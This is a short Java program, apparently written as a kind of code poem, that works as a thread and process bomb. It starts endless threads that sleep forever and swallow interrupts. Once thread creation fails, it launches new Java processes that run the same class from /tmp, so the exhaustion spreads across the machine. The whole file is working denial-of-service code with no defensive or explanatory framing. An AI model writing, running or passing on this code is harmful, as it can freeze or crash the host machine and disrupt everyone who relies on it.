// Threads without end, virtual machines as children, deaf to interrupts; then the compiler's work again.
import java.util.concurrent.*;

public class Main {
    public static void main(String[] arguments) throws Exception {
        for (int at = 0; ; at++) {
            try {
                Thread thread = new Thread(() -> { for (;;) try { Thread.sleep(1 << 20); } catch (InterruptedException again) { } });
                thread.start();
            } catch (Throwable full) {
                new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-cp", "/tmp", "Main").start();
            }
        }
    }
}
